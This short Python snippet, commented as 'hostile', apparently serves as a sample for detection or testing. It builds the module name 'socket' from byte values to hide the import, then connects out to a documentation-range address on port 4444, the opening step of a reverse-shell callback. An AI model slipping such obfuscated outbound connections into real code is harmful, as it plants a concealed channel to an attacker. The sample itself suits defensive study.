# hostile: module name from a list of byte values
mod = __import__(bytes([115, 111, 99, 107, 101, 116]).decode())
s = mod.socket()
s.connect(("198.51.100.4", 4444))
